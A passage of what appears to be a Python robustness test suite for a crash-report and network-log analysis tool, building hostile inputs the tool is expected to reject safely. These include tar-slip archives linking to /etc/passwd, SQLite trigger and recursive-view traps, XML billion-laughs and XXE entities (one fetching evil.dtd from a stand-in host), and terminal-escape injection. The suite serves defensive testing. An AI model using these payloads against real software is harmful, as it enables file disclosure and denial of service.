        tar_member(f"{folder}/hard-passwd.ips", tarfile.LNKTYPE, linkname="/etc/passwd"),
        tar_member(f"{folder}/linkdir", tarfile.SYMTYPE, linkname="/etc"),
        tar_member(f"{folder}/linkdir/passwd.ips", data=report),
        tar_member(f"{folder}/fifo.ips", tarfile.FIFOTYPE),
        tar_member(f"{folder}/zero.ips", tarfile.CHRTYPE, devmajor=1, devminor=5),
        tar_member(f"{folder}/disk.PLSQL", tarfile.BLKTYPE, devmajor=8, devminor=0),
    ]
    paths = []
    for ext, mode in ((".tar.gz", "w:gz"), (".tar", "w")):
        path = os.path.join(d, "escape" + ext)
        with tarfile.open(path, mode, format=tarfile.GNU_FORMAT) as tar:
            for info, data in members:
                if data is not None:
                    data.seek(0)
                tar.addfile(info, data)
        paths.append(path)
    runs = []
    for path in paths:
        name = os.path.basename(path)
        runs.append(Run(f"scan json {name}", ["scan", "--format", "json", path], json=True, must_report=True,
                        absent=("root:x:0:0",), present=("jetsamEvent",), cap=s["quick_cap"]))
        runs.append(Run(f"scan text {name}", ["scan", path], must_report=True, absent=("root:x:0:0",),
                        cap=s["quick_cap"]))
    runs.append(Run("energy json escape.tar.gz", ["energy", "--format", "json", paths[0]], json=True,
                    absent=("root:x:0:0",), cap=s["quick_cap"]))
    for path in paths:
        name = os.path.basename(path)
        runs.append(Run(f"inspect json {name}", ["inspect", "--format", "json", path], json=True,
                        absent=("root:x:0:0",), present=("jetsamEvent",), cap=s["quick_cap"]))
    runs.append(Run("http json escape.tar", ["http", "--format", "json", paths[1]], json=True, must_report=True,
                    absent=("root:x:0:0",), cap=s["quick_cap"]))
    runs.append(Run("memory-limits escape.tar.gz", ["memory-limits", "--format", "json", paths[0]], json=True,
                    cap=s["quick_cap"]))

    def after(case_dir):
        found = []
        for root in (case_dir, "/tmp", os.path.dirname(case_dir), os.path.dirname(os.path.dirname(case_dir))):
            try:
                names = os.listdir(root)
            except OSError:
                continue
            found += [os.path.join(root, n) for n in names if marker in n]
        found += [p for p in [abs_target] if os.path.lexists(p)]
        for root, _, files in os.walk(case_dir):
            found += [os.path.join(root, f) for f in files if marker in f]
        return [f"archive member escaped to {p}" for p in sorted(set(found))]

    return Case("tar-escape", "tar entries climbing out (../), absolute paths, symlinks and hard links out of the "
                "archive, a link to a folder then a member through it, a FIFO, a char and a block device (.tar, "
                ".tar.gz)", "every such member skipped with a warning, nothing written outside the temporary "
                "folder, the regular member read", runs, after)


def case_sqlite_hostile(d, s):
    cap = s["quick_cap"]
    runs = []
    corrupt = os.path.join(d, "corrupt-page.PLSQL")
    write_powerlog(corrupt, battery_rows=20000)
    pages = os.path.getsize(corrupt) // 4096
    with open(corrupt, "r+b") as f:
        for page in (pages - 3, pages // 2 + 1):
            f.seek(page * 4096)
            f.write(bytes((i * 37 + 11) & 0xFF for i in range(4096)))
    schema = os.path.join(d, "corrupt-schema.PLSQL")
    write_powerlog(schema, battery_rows=100)
    with open(schema, "r+b") as f:
        f.seek(100)
        f.write(b"\x0d\x00\x00\xff\xff\x00\x10" + b"\xee" * 500)
    trigger = os.path.join(d, "trigger.PLSQL")
    write_powerlog(trigger, battery_rows=500, extra_sql=(
        "CREATE TRIGGER wipe AFTER INSERT ON PLBatteryAgent_EventBackward_Battery BEGIN "
        "DELETE FROM PLAccountingOperator_Aggregate_RootNodeEnergy; END",
        "CREATE TRIGGER grow BEFORE DELETE ON PLProcessMonitorAgent_EventPoint_ProcessExit BEGIN "
        "INSERT INTO PLProcessMonitorAgent_EventPoint_ProcessExit SELECT * FROM "
        "PLProcessMonitorAgent_EventPoint_ProcessExit; END"))
    view = os.path.join(d, "view-named-like-table.PLSQL")
    write_powerlog(view, battery_as_view=(
        "CREATE VIEW PLBatteryAgent_EventBackward_Battery AS WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL "
        "SELECT i + 1 FROM r) SELECT i AS ID, 1709280000.0 + i AS timestamp, 50.0 AS Level, 50.0 AS RawLevel, "
        "0 AS AtCriticalLevel, 4000 AS Voltage, -300 AS InstantAmperage, 2800 AS CurrentCapacity, 1 AS CycleCount,"
        " 0 AS IsCharging, -250 AS Amperage, 30.0 AS Temperature, 0 AS ExternalConnected FROM r"),
        extra_sql=("DROP TABLE PLConfigAgent_EventNone_Config",
                   "CREATE VIEW PLConfigAgent_EventNone_Config AS SELECT 1 AS ID, 1709280000.0 AS timestamp, "
                   "printf('%.*c', 900000000, 'x') AS Build, 'D74AP' AS Device, 0.0 AS DeviceBootTime, "
                   "'' AS LastBuild"))
    for path in (corrupt, schema, trigger, view):
        name = os.path.basename(path)
        report = name.startswith("corrupt")
        runs.append(Run(f"energy json {name}", ["energy", "--format", "json", path], json=True,
                        must_report=report, bound=STREAM, cap=cap))
        runs.append(Run(f"energy text {name}", ["energy", path], must_report=report, bound=STREAM, cap=cap))
        runs.append(Run(f"inspect json {name}", ["inspect", "--format", "json", path], json=True,
                        must_report=report, bound=STREAM, cap=cap))
    return Case("sqlite-hostile", "SQLite files: a corrupt table page, a corrupt schema page, triggers, views named "
                "like PowerLog tables (endless recursive rows, a 900 MB string)",
                "a clear error for corruption; triggers never fire and views are not read as tables (or are "
                "bounded); the database is never written (no -journal/-wal beside it); fixed memory", runs)


def case_sqlite_rows(d, s):
    rows = s["rows"]
    path = os.path.join(d, "rows.PLSQL")
    write_powerlog(path, battery_rows=rows)
    cap = s["slow_cap"]
    # JSON keeps every row (docs/powerlog.md): 64 and 65 MiB at 100,000 rows since the analysis takes its rows and
    # the time and sample are compact (117 and 118 before, which this bound fails); at the `full` scale the rows
    # outgrow any fixed bound.
    json_bound = 96 * MiB
    return Case("sqlite-rows", f"a PowerLog with {rows} battery rows ({os.path.getsize(path) // MiB} MiB)",
                "streamed: summaries in fixed memory; time linear in rows",
                [Run("energy json", ["energy", "--format", "json", path], json=True, bound=json_bound, cap=cap),
                 Run("energy text", ["energy", path], bound=SMALL, cap=cap),
                 Run("inspect json", ["inspect", "--format", "json", path], json=True, bound=json_bound, cap=cap),
                 Run("inspect text", ["inspect", path], bound=SMALL, cap=cap)])


def case_powerlog_names(d, s):
    rows = s["rows"]
    path = os.path.join(d, "names.PLSQL")
    write_powerlog(path, battery_rows=100)
    con = sqlite3.connect(path)
    con.execute("PRAGMA journal_mode=OFF")
    con.execute("PRAGMA synchronous=OFF")
    # Every row a consumer of its own (no node name: shown as `node N`), over as many hours as rows allow.
    con.executemany("INSERT INTO PLAccountingOperator_Aggregate_RootNodeEnergy (timestamp, timeInterval, Energy,"
                    " NodeID, RootNodeID) VALUES (?, 3600, ?, ?, 1)",
                    ((T0 + 3600 * (i % 20000), 1 + i % 997, 100 + i) for i in range(rows)))
    con.commit()
    con.close()
    cap = s["slow_cap"]
    return Case("powerlog-names", f"a PowerLog with {rows} energy rows of distinct consumers "
                f"({os.path.getsize(path) // MiB} MiB)", "text folded into bounded aggregates: the first names "
                "ranked, the rest counted and said",
                [Run("energy text", ["energy", path], bound=SMALL, cap=cap),
                 Run("inspect text", ["inspect", path], bound=SMALL, cap=cap)])


CHARLES_TRANSACTION = (
    '<transaction status="COMPLETE" method="GET" protocolVersion="HTTP/1.1" protocol="https" host="{host}" '
    'port="443" path="/v1/items" query="" startTime="2024-03-01T09:30:00.000+01:00" startTimeMillis="1709281800000" '
    'endTime="2024-03-01T09:30:00.910+01:00" endTimeMillis="1709281800910" duration="910">\n'
    '<request headers="true" body="false"><headers><first-line><![CDATA[GET /v1/items HTTP/1.1]]></first-line>\n'
    '<header><name>Host</name><value>{value}</value></header></headers></request>\n'
    '<response status="200" headers="true" body="false"><headers><first-line><![CDATA[HTTP/1.1 200 OK]]>'
    '</first-line></headers></response>\n</transaction>\n'
)


def case_xml_entities(d, s):
    laughs = "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">\n' for i in range(1, 11))
    billion = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE charles-session [\n<!ENTITY lol0 "lol">\n'
               + laughs + ']>\n<charles-session>\n' + CHARLES_TRANSACTION.format(host="&lol10;", value="&lol10;")
               + '</charles-session>\n')
    big = "x" * 100_000
    quadratic = ('<?xml version="1.0"?>\n<!DOCTYPE charles-session [<!ENTITY a "' + big + '">]>\n<charles-session>\n'
                 + CHARLES_TRANSACTION.format(host="api.example.com", value="&a;" * 50_000) + '</charles-session>\n')
    xxe = ('<?xml version="1.0"?>\n<!DOCTYPE charles-session [<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
           '<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>\n<charles-session>\n'
           + CHARLES_TRANSACTION.format(host="&xxe;", value="&xxe;") + '</charles-session>\n')
    runs = []
    for name, text in (("billion-laughs.chlsx", billion), ("quadratic.chlsx", quadratic), ("xxe.chlsx", xxe)):
        path = os.path.join(d, name)
        with open(path, "w", encoding="utf-8") as out:
            out.write(text)
        runs.append(Run(f"http json {name}", ["http", "--format", "json", path], json=True,
                        absent=("root:x:0:0", "lollollollollollollollollollollollollollollol"), cap=s["quick_cap"]))
        runs.append(Run(f"inspect json {name}", ["inspect", "--format", "json", path], json=True,
                        absent=("root:x:0:0",), cap=s["quick_cap"]))
    return Case("xml-entities", "XML entity expansion in a Charles session: billion laughs in attributes and text, "
                "a quadratic blow-up, an external entity (file:///etc/passwd) and an external parameter entity",
                "entities never expanded or fetched (or a clear error); fixed memory and time", runs)


def case_har_entries(d, s):
    count = s["har_entries"]
    path = os.path.join(d, "entries.har")
    write_har(path, count)
    size = os.path.getsize(path)
    bound = per_byte(4)(size)
    cap = s["slow_cap"]
    return Case("har-entries", f"a HAR with {count} entries ({size // MiB} MiB)",
                "read in memory a small multiple of the input; time linear",
                [Run("http json", ["http", "--format", "json", path], json=True, bound=bound, cap=cap),
                 Run("http text", ["http", path], bound=bound, cap=cap),
                 Run("inspect json", ["inspect", "--format", "json", path], json=True, bound=bound, cap=cap)])


CHARLES_JSON_TRANSACTION = (
    '{{"status":"COMPLETE","method":"GET","protocolVersion":"HTTP/1.1","scheme":"https","host":"api{host}.example.com",'
    '"port":443,"path":"/v2/items/{i}","query":null,"times":{{"start":"{start}"}},"durations":{{"total":{total},'
    '"dns":1,"connect":5,"ssl":4,"request":1,"response":2,"latency":{latency}}},"totalSize":712,"request":{{"sizes":'
    '{{"headers":80,"body":0}},"header":{{"headers":[{{"name":"Host","value":"api{host}.example.com"}}]}}}},'
    '"response":{{"status":200,"sizes":{{"headers":120,"body":512}},"mimeType":"application/json"}}}}'
)


def case_charles_entries(d, s):
    count = s["har_entries"]
    chlsj = os.path.join(d, "entries.chlsj")
    with open(chlsj, "w", encoding="utf-8") as out:
        out.write("[\n")
        for i in range(count):
            start = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(T0 + i // 10)) + f".{(i % 10) * 100:03d}Z"
            total = 20 + i % 400
            out.write(CHARLES_JSON_TRANSACTION.format(host=i % 7, i=i, start=start, total=total, latency=total - 13))
            out.write(",\n" if i + 1 < count else "\n")
        out.write("]\n")
    chlsx = os.path.join(d, "entries.chlsx")
    with open(chlsx, "w", encoding="utf-8") as out:
        out.write('<?xml version="1.0" encoding="UTF-8"?>\n<charles-session>\n')
        for i in range(count):
            out.write(CHARLES_TRANSACTION.format(host=f"api{i % 7}.example.com", value=f"api{i % 7}.example.com"))
        out.write("</charles-session>\n")
    cap = s["slow_cap"]
    runs = []
    for path in (chlsj, chlsx):
        bound = per_byte(4)(os.path.getsize(path))
        name = os.path.basename(path)
        runs += [Run(f"http text {name}", ["http", path], bound=bound, cap=cap),
                 Run(f"inspect text {name}", ["inspect", path], bound=bound, cap=cap)]
    return Case("charles-entries", f"Charles sessions of {count} transactions ({os.path.getsize(chlsj) // MiB} MiB "
                f"JSON, {os.path.getsize(chlsx) // MiB} MiB XML)", "text summarised one transaction at a time: "
                "memory a small multiple of the input", runs)


def case_pcap_packets(d, s):
    count = s["har_entries"]
    path = os.path.join(d, "lookups.pcap")
    with open(path, "wb") as out:
        out.write(PCAP_HEADER)
        for i in range(count):
            out.write(pcap_record(ethernet_ipv4_udp_dns(i % 65536), seconds=1709280000 + i // 100))
    bound = per_byte(4)(os.path.getsize(path))
    cap = s["slow_cap"]
    return Case("pcap-packets", f"a pcap of {count} DNS queries ({os.path.getsize(path) // MiB} MiB)",
                "text summary in memory a small multiple of the input",
                [Run("http text", ["http", path], bound=bound, cap=cap),
                 Run("inspect text", ["inspect", path], bound=bound, cap=cap)])


def case_registers(d, s):
    header, body = corpus_ips(CRASH_EXAMPLE)
    huge = [18446744073709551615, 18446744073709551616, 9223372036854775808, 10 ** 40, -1, -(2 ** 63) - 1]
    raw_values = ["18446744073709551615", "18446744073709551616", "9223372036854775808",
                  "99999999999999999999999999999999999999", "-1", "-9223372036854775809", "1.5e300", "1e400",
                  '"0xffffffffffffffff"', "null", "true", "-0.0"]
    for thread in body.get("threads", []):
        state = thread.get("threadState")
        if isinstance(state, dict):
            state["x"] = [{"value": v} for v in huge]
            state["pc"] = {"value": 18446744073709551615}
            state["lr"] = {"value": 18446744073709551616}
        for i, frame in enumerate(thread.get("frames", [])):
            frame["imageOffset"] = huge[i % len(huge)]
            if i % 4 == 3:
                frame["imageIndex"] = 2 ** 63 if i % 8 == 3 else -1
    for image in body.get("usedImages", []):
        image["base"] = 0xFFFFFFFFFFFFF000
        image["size"] = 0x10000
    raw = json.dumps(body, indent=1)
    # Swap the first x register's value for each raw token json.dumps cannot write (1e400, 1.5e300 as written).
    raw = raw.replace('"x": [', '"x": [' + ",".join('{"value": %s}' % v for v in raw_values) + ",", 1)
    ips = os.path.join(d, "registers.ips")
    write_ips(ips, header, None, raw.encode())
    jheader, jetsam = corpus_ips(JETSAM_EXAMPLE)
    jetsam["pageSize"] = 2 ** 63
    for process in jetsam.get("processes", [])[:20]:
        process["rpages"] = 18446744073709551615
        process["lifetimeMax"] = 2 ** 64
        process["pid"] = 2 ** 63
        process["uuid"] = "not-a-uuid"
    jetsam["largestProcess"] = "\u202e" + str(jetsam.get("largestProcess", ""))
    jips = os.path.join(d, "JetsamEvent-registers.ips")
    write_ips(jips, jheader, jetsam)
    cap = s["quick_cap"]
    runs = inspect_runs(ips, SMALL, cap, present=("0xffffffffffffffff",)) + inspect_runs(jips, SMALL, cap)
    runs += [Run("translate registers.ips", ["translate", ips], cap=cap),
             Run("memory-limits (folder)", ["memory-limits", "--format", "json", d], json=True, cap=cap)]
    return Case("registers", "registers, offsets, image bases and jetsam counters above Int64.max (2^64, 10^40, "
                "-1, 1e400, strings, null) in a real .ips crash report and JetsamEvent",
                "UInt64 values kept exactly (0xffffffffffffffff), larger ones reported, never a trap", runs)


def case_encoding(d, s):
    cap = s["quick_cap"]
    evil = "\x1b]0;pwned\x07\x1b[2J\x1b[31mEvil"
    text = text_crash_header(process=evil, extra="Crashed Thread:        0\n")
    frames = "".join(frame_line(i) for i in range(20))
    lf = (text + "Thread 0 Crashed:\n" + frames).encode("utf-8")
    crlf = lf.replace(b"\n", b"\r\n")
    runs = []
    files = {
        "crlf.crash": crlf,
        "invalid-utf8.crash": lf.replace(b"HostileKit", b"Hostile\xff\xfeKit\xc0\x80\xed\xa0\x80", 3),
        "nul-bytes.crash": lf.replace(b"entry", b"en\0try"),
    }
    # Text reports with CRLF or invalid UTF-8 must still be read as crash reports (a partial result at worst);
    # NUL bytes may rightly make a file read as binary data, so that one is not required to come out as a crash.
    readable = {"crlf.crash", "invalid-utf8.crash"}
    header, body = corpus_ips(CRASH_EXAMPLE)
    body["procName"] = evil
    body["procPath"] = "/private/var/" + evil
    raw = json.dumps(body, indent=1).encode().replace(b'"procName"', b'"proc\xffName"', 1)
    files["escapes.ips"] = json.dumps(header).encode() + b"\r\n" + raw.replace(b"\n", b"\r\n")
    files["nul-bytes.ips"] = json.dumps(header).encode() + b"\n" + raw.replace(b'"Harbor"', b'"Har\x00bor\xc3"')
    har = b'{"log":{"version":"1.2","entries":[' + har_entry(1).encode().replace(
        b"application/json", b"app\x1b[2J\xff\x00lication") + b"]}}"
    files["control.har"] = har
    utf16 = '{"log":{"version":"1.2","entries":[' + har_entry(2) + "]}}"
    files["utf16.har"] = b"\xff\xfe" + utf16.encode("utf-16-le")
    files["name-\x1b[31m-with\nnewline.crash"] = lf
    for name, data in files.items():
        path = os.path.join(d, name)
        with open(path, "wb") as out:
            out.write(data)
        short = name.encode("unicode_escape").decode()
        runs.append(Run(f"inspect json {short}", ["inspect", "--format", "json", path], json=True, cap=cap,
                        present=("crashReport",) if name in readable else ()))
        runs.append(Run(f"inspect text {short}", ["inspect", path], cap=cap))
        if name.endswith(".har"):
            runs.append(Run(f"http text {short}", ["http", path], cap=cap))
        if name == "escapes.ips":
            runs.append(Run("translate escapes.ips", ["translate", path], cap=cap))
    runs.append(Run("scan text (folder)", ["scan", d], cap=cap))
    return Case("encoding", "invalid UTF-8, CRLF, NUL bytes, terminal escapes in fields and in a file name, "
                "a UTF-16 HAR", "read with diagnostics; every input byte that reaches the terminal escaped", runs)


def case_fifo(d, s):
    cap = s["quick_cap"]
    fifo = os.path.join(d, "JetsamEvent-fifo.ips")
    os.mkfifo(fifo)
    with open(os.path.join(REPO, "Corpus", JETSAM_EXAMPLE), "rb") as f:
        report = f.read()
    with open(os.path.join(d, "JetsamEvent-2024-03-01-102030.ips"), "wb") as out:
        out.write(report)
    runs = [Run(f"{cmd} fifo", [cmd, fifo], exits=(1,), must_report=True, cap=cap)
            for cmd in ("inspect", "http", "energy", "translate", "memory-limits", "scan")]
    # In a folder the FIFO is not an input the user named: a note says it was skipped, the rest is read.
    runs += [Run("scan json (folder with a FIFO)", ["scan", "--format", "json", d], json=True,
                 present=("jetsamEvent",), err_present=("FIFO",), cap=cap),
             Run("memory-limits (folder with a FIFO)", ["memory-limits", "--format", "json", d], json=True, cap=cap)]
    return Case("fifo", "a FIFO given as input (nobody writes to it), and in a folder", "a clear error for the FIFO"
                " (never a hang); in a folder it is skipped and the other files read", runs)


def case_dev_zero(d, s):
    cap = s["quick_cap"]
    runs = [Run(f"{cmd} /dev/zero", [cmd, "/dev/zero"], exits=(1,), must_report=True, cap=cap)
            for cmd in ("inspect", "http", "energy", "translate", "memory-limits", "scan")]
    runs.append(Run("inspect json /dev/zero", ["inspect", "--format", "json", "/dev/zero"], exits=(1,), json=True,
                    must_report=True, cap=cap))
    runs.append(Run("inspect /dev/null", ["inspect", "--format", "json", "/dev/null"], json=True, cap=cap))
    return Case("dev-zero", "/dev/zero (endless) and /dev/null (empty) given as input",
                "a clear error, at once; fixed memory", runs)


def case_unreadable(d, s):
    cap = s["quick_cap"]
    with open(os.path.join(REPO, "Corpus", JETSAM_EXAMPLE), "rb") as f:
        report = f.read()
    secret = os.path.join(d, "JetsamEvent-secret.ips")
    with open(secret, "wb") as out:
        out.write(report)
    os.chmod(secret, 0)
    locked = os.path.join(d, "locked")
    os.mkdir(locked)
    with open(os.path.join(locked, "JetsamEvent-inside.ips"), "wb") as out:
        out.write(report)
    os.chmod(locked, 0)
    with open(os.path.join(d, "JetsamEvent-readable.ips"), "wb") as out:
        out.write(report)
    os.chmod(os.path.join(d, "JetsamEvent-readable.ips"), 0o644)
    nobody = os.geteuid() == 0
    runs = [Run("inspect json unreadable", ["inspect", "--format", "json", secret], exits=(1,), json=True,
                must_report=True, as_nobody=nobody, cap=cap),
            Run("translate unreadable", ["translate", secret], exits=(1,), must_report=True, as_nobody=nobody,
                cap=cap),
            Run("energy unreadable", ["energy", secret], exits=(1,), must_report=True, as_nobody=nobody, cap=cap),
            Run("scan json (folder)", ["scan", "--format", "json", d], json=True, must_report=True,
                present=("jetsamEvent",), as_nobody=nobody, cap=cap),
            Run("memory-limits (folder)", ["memory-limits", "--format", "json", d], json=True, must_report=True,
                as_nobody=nobody, cap=cap)]
    return Case("unreadable", "an unreadable file and an unreadable folder (run as uid 65534 when the suite runs "
                "as root)", "a clear error naming the file; in a folder the other files still read", runs)


def case_symlink_loop(d, s):
    cap = s["quick_cap"]
    tree = os.path.join(d, "tree")
    os.makedirs(os.path.join(tree, "a", "b"))
    with open(os.path.join(REPO, "Corpus", JETSAM_EXAMPLE), "rb") as f:
        report = f.read()
    with open(os.path.join(tree, "a", "JetsamEvent-2024-03-01-102030.ips"), "wb") as out:
        out.write(report)
    os.symlink("..", os.path.join(tree, "a", "up"))
    os.symlink("../..", os.path.join(tree, "a", "b", "upup"))
    os.symlink(".", os.path.join(tree, "self"))
    os.symlink(tree, os.path.join(tree, "a", "b", "absolute-root"))
    os.symlink("y", os.path.join(tree, "x"))
    os.symlink("x", os.path.join(tree, "y"))
    runs = [Run("scan json", ["scan", "--format", "json", tree], json=True, present=("jetsamEvent",), cap=cap),
            Run("scan text", ["scan", tree], cap=cap),
            Run("inspect json", ["inspect", "--format", "json", tree], json=True, cap=cap),
            Run("memory-limits", ["memory-limits", "--format", "json", tree], json=True, cap=cap),
            Run("energy", ["energy", tree], cap=cap),
            Run("scan json (link x -> y -> x)", ["scan", "--format", "json", os.path.join(tree, "x")], exits=(1,),
                json=True, must_report=True, cap=cap)]
    return Case("symlink-loop", "a directory symlink loop for scan (.., ../.., ., an absolute link to the root, "
                "x -> y -> x)", "each folder read once; the loop reported or ignored, never followed forever", runs)


def case_mistyped_values(d, s):
    """Every value of the wrong type: each one is a warning and a value kept verbatim, so both must be capped, and
    finding a warning's line must not scan the file from its start each time (that made this case take hours)."""
    count = s["mistyped"]
    header, body = corpus_ips(JETSAM_EXAMPLE)
    victim = dict(body["processes"][0])
    victim["states"] = "@STATES@"
    body["processes"] = [victim]
    jetsam = os.path.join(d, "mistyped-states.ips")
    raw = json.dumps(body, separators=(",", ":")).encode()
    write_ips(jetsam, header, None, raw.replace(b'"@STATES@"', b"[" + b",".join([b"1"] * count) + b"]"))
    unknown = os.path.join(d, "unknown-members.ips")
    members = b",".join(b'"k%d":%d' % (i, i) for i in range(count // 2))
    victim["name"] = "@NAME@"
    raw = json.dumps(dict(body, processes=[dict(victim, states=["frontmost"])]), separators=(",", ":")).encode()
    write_ips(unknown, header, None, raw.replace(b'"name":"@NAME@"', b'"name":"App",' + members))
    crash_header, crash_body = corpus_ips(CRASH_EXAMPLE)
    crash = os.path.join(d, "mistyped-frames.ips")
    frames = b",".join([b'{"imageOffset":"x","imageIndex":"y"}'] * (count // 10))
    crash_body["threads"] = [{"triggered": True, "frames": "@FRAMES@"}]
    raw = json.dumps(crash_body, separators=(",", ":")).encode()
    write_ips(crash, crash_header, None, raw.replace(b'"@FRAMES@"', b"[" + frames + b"]"))
    kscrash = os.path.join(d, "mistyped.kscrash.json")
    with open(kscrash, "wb") as out:
        out.write(b'{"report":{"version":"3.0","id":"x","timestamp":"2024-01-01T00:00:00Z","type":"standard"},'
                  b'"system":{},"crash":{"error":{"type":"signal","signal":{"signal":6}},"threads":['
                  + b",".join([b'{"index":"x","crashed":"y","backtrace":7}'] * (count // 20))
                  + b']},"binary_images":[' + b",".join([b'{"name":1,"image_addr":"q"}'] * (count // 20)) + b"]}")
    runs = []
    for path in (jetsam, unknown, crash, kscrash):
        runs += inspect_runs(path, per_byte(4)(os.path.getsize(path)), s["slow_cap"], must_report=True)
    runs.append(Run("memory-limits mistyped-states.ips", ["memory-limits", jetsam],
                    bound=per_byte(4)(os.path.getsize(jetsam)), cap=s["slow_cap"]))
    return Case("mistyped-values", f"{count} values of the wrong type in a JetsamEvent process, {count // 2} unknown "
                f"members, {count // 10} mistyped crash frames, {count // 20} mistyped KSCrash threads and images",
                "read in time linear in the input; warnings and kept values capped, with a count of the rest",
                runs)


# --------------------------------------------------------------------------------------------------------------
# Hostile symbol files (issue 38): the fixture dSYM and binary with crafted sections appended and their headers
# pointed at them, so every other byte stays a real clang/dsymutil output.

FIXTURES = os.path.join(REPO, "Tests", "SymbolicationTests", "Fixtures")
FIXTURE_DWARF = os.path.join(FIXTURES, "Demo-arm64.dSYM", "Contents", "Resources", "DWARF", "Demo-arm64")
FIXTURE_BINARY = os.path.join(FIXTURES, "Demo-arm64")
FIXTURE_REPORT = os.path.join(FIXTURES, "reports", "Demo-arm64-ios.crash")
# The fixture's load address in its report and an address inside `_compute` (docs/symbolication.md).
SYMBOL_BOUND = 300 * MiB  # issue 38: no command above 300 MB on any input under 1 MB


def uleb(value):
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def macho_commands(data):
    """(command, offset) of each load command of a thin 64-bit Mach-O."""
    magic, _, _, _, ncmds, _, _, _ = struct.unpack_from("<IiiIIIII", data, 0)
    assert magic == 0xFEEDFACF, "a thin 64-bit Mach-O"
    offset = 32
    for _ in range(ncmds):
        cmd, size = struct.unpack_from("<II", data, offset)
        yield cmd, offset
        offset += size


def dwarf_sections(data):
    """name -> (offset of its section_64 header, file offset, size); and the __DWARF segment command's offset."""
    sections, segment = {}, None
    for cmd, at in macho_commands(data):
        if cmd != 0x19 or data[at + 8:at + 24].rstrip(b"\0") != b"__DWARF":
            continue
        segment = at
        nsects = struct.unpack_from("<I", data, at + 64)[0]
        for index in range(nsects):
            header = at + 72 + 80 * index
            name = data[header:header + 16].rstrip(b"\0").decode()
            size, offset = struct.unpack_from("<QI", data, header + 40)
            sections[name] = (header, offset, size)
    return sections, segment


def patched_dsym(replace):
    """The fixture dSYM's DWARF file with sections replaced: `replace(name, old bytes)` gives new bytes or None.
    New contents go at the end of the file; the section headers and the __DWARF segment are pointed at them."""
    data = bytearray(open(FIXTURE_DWARF, "rb").read())
    sections, segment = dwarf_sections(data)
    for name, (header, offset, size) in sections.items():
        new = replace(name, bytes(data[offset:offset + size]))
        if new is None:
            continue
        while len(data) % 16:
            data.append(0)
        struct.pack_into("<QI", data, header + 40, len(new), len(data))
        data += new
    fileoff = struct.unpack_from("<Q", data, segment + 40)[0]
    struct.pack_into("<QQ", data, segment + 32, len(data) - fileoff, len(data) - fileoff)  # vmsize, fileoff
    struct.pack_into("<Q", data, segment + 40, fileoff)
    struct.pack_into("<Q", data, segment + 48, len(data) - fileoff)  # filesize
    return bytes(data)


def write_dsym(folder, name, dwarf):
    path = os.path.join(folder, name + ".dSYM")
    os.makedirs(os.path.join(path, "Contents", "Resources", "DWARF"))
    with open(os.path.join(path, "Contents", "Resources", "DWARF", "Demo-arm64"), "wb") as out:
        out.write(dwarf)
    return path


def line_units(tables_at, abbrev_offset):
    """DWARF 4 compile units, one per line-table offset: stmt_list, low_pc and high_pc (abbreviation 1)."""
    info = b""
    for offset in tables_at:
        body = struct.pack("<HIB", 4, abbrev_offset, 8) + uleb(1) + struct.pack("<IQQ", offset, 0x1_0000_4000, 0x100)
        info += struct.pack("<I", len(body)) + body
    return info


UNIT_ABBREVIATION = bytes([1, 0x11, 0, 0x10, 0x17, 0x11, 0x01, 0x12, 0x07, 0, 0, 0])
OPCODE_LENGTHS = bytes([0, 1, 1, 1, 1, 0, 0, 0, 1, 0, 0, 1])


def empty_format_table(count):
    """N1: a DWARF 5 line table whose directory and file entry formats are empty while the counts say `count`."""
    header = bytes([1, 1, 1, 0xFB, 14, 13]) + OPCODE_LENGTHS + b"\0" + uleb(count) + b"\0" + uleb(count)
    program = bytes([0, 9, 2]) + struct.pack("<Q", 0x1_0000_4000) + bytes([1, 0, 1, 1])
    body = struct.pack("<HBBI", 5, 8, 0, len(header)) + header + program
    return struct.pack("<I", len(body)) + body


def shared_program_tables(base, headers, rows):
    """N2: `headers` DWARF 4 line-table headers, each running to the end of the section, all pointing at one
    program of `rows` rows. `base` is where the first header starts in the section."""
    header = bytes([1, 1, 1, 0xFB, 14, 13]) + OPCODE_LENGTHS + b"\0\0"
    size = 10 + len(header)
    program = bytes([0, 9, 2]) + struct.pack("<Q", 0x1_0000_4000) + bytes([0x20]) * rows + bytes([0, 1, 1])
    end = headers * size + len(program)
    tables = b""
    for index in range(headers):
        at = index * size
        tables += struct.pack("<IHI", end - at - 4, 4, headers * size - at - 10) + header
    return tables + program, [base + index * size for index in range(headers)]


def hostile_line_dsym(tables):
    """The fixture dSYM with `tables(base)` -> (bytes, offsets) appended to .debug_line and one unit per offset."""
    data = open(FIXTURE_DWARF, "rb").read()
    sections, _ = dwarf_sections(data)
    line_size = sections["__debug_line"][2]
    abbrev_size = sections["__debug_abbrev"][2]
    extra, offsets = tables(line_size)
    replacements = {
        "__debug_line": lambda old: old + extra,
        "__debug_abbrev": lambda old: old + UNIT_ABBREVIATION,
        "__debug_info": lambda old: old + line_units(offsets, abbrev_size),
    }
    return patched_dsym(lambda name, old: replacements[name](old) if name in replacements else None)


def symbol_runs(label, dsym, zipped, report_folder, cap):
    return [
        Run(f"atos {label}", ["atos", "-o", dsym, "-l", "0x100000000", "0x100004010", "0x100004100"],
            bound=SYMBOL_BOUND, cap=cap),
        Run(f"symbolicate {label}", ["symbolicate", os.path.join(report_folder, "Demo-arm64-ios.crash"),
                                     "--dsym", dsym], bound=SYMBOL_BOUND, cap=cap),
        Run(f"scan --dsym zip {label}", ["scan", report_folder, "--format", "json", "--dsym", zipped], json=True,
            bound=SYMBOL_BOUND, cap=cap),
    ]


def symbol_case_folder(d, name, dwarf):
    dsym = write_dsym(d, name, dwarf)
    zipped = os.path.join(d, name + "-appDsyms.zip")
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
        for base, _, files in os.walk(dsym):
            for file in files:
                full = os.path.join(base, file)
                archive.write(full, os.path.relpath(full, d))
    reports = os.path.join(d, "reports")
    os.makedirs(reports, exist_ok=True)
    shutil.copy(FIXTURE_REPORT, reports)
    return dsym, zipped, reports


def case_dsym_empty_entry_formats(d, s):
